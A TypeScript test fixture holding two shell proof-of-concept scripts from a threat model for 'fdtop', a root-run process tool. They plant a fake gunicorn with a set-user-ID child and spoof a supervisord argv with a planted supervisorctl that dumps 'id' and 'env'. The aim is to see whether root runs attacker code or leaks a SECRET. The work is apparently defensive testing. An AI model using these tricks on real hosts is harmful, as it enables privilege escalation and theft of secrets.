/** The two proofs of concept of the threat model, as a shell runs them. `fdtop` is the built program, run by root. */

const FDTOP = 'fdtop() { /opt/node /opt/fdtop/dist/fdtop.js "$@"; }\n';
const AS = "AS='setpriv --reuid=65534 --regid=65534 --clear-groups'\n";

/** The set-user-ID first child. It prints what the file `ran` says. */
export const FIRST_CHILD = `${FDTOP}${AS}
D=$(mktemp -d); chmod 755 "$D"; mkdir -m 777 "$D/out"
cat >"$D/gunicorn" <<'PY'
import os, sys, tempfile, time
out = os.environ['OUT']
if '--check-config' in sys.argv:
    open(out + '/ran', 'w').write('check ran as uid %d, euid %d\\n' % (os.getuid(), os.geteuid())); sys.exit()
read, write = os.pipe(); null = os.open('/dev/null', os.O_RDWR)
if os.fork() == 0:   # first child: set-user-ID, waits for a password
    os.dup2(read, 0); os.dup2(null, 1); os.dup2(null, 2); os.execv('/usr/bin/su', ['su'])
time.sleep(0.3)
beat, name = tempfile.mkstemp(prefix='wgunicorn-'); os.unlink(name)
worker = os.fork()   # second child
if worker: open(out + '/worker', 'w').write(str(worker))
for turn in range(30): os.fchmod(beat, turn % 2); time.sleep(1)
PY
OUT=$D/out $AS /usr/bin/python3 "$D/gunicorn" app:app >/dev/null 2>&1 & sleep 2
echo "worker $(cat "$D/out/worker")"
fdtop kill "$(cat "$D/out/worker")" --dry-run; cat "$D/out/ran" 2>/dev/null
true
`;

/** supervisord by its argv. */
export const FALSE_SUPERVISORD = `${FDTOP}${AS}
export D=$(mktemp -d); chmod 755 "$D"; mkdir "$D/bin"; mkdir -m 777 "$D/out"
printf '#!/bin/sh\\n{ id; env; } >%s/out/ran\\n' "$D" >"$D/bin/supervisorctl"; chmod 755 "$D/bin/supervisorctl"
cat >"$D/gunicorn" <<'PY'
import os, time
open(os.environ['OUT'] + '/master', 'w').write(str(os.getpid()))
os.fork(); time.sleep(30)
PY
OUT=$D/out $AS bash -c \\
  'exec -a "$D/bin/supervisord" sg nogroup -c "/usr/bin/python3 $D/gunicorn app:app"' >/dev/null 2>&1 & sleep 2
echo "master $(cat "$D/out/master")"
SECRET=hunter2 fdtop restart "$(cat "$D/out/master")" --dry-run; grep -E 'uid=|SECRET' "$D/out/ran" 2>/dev/null
true
`;
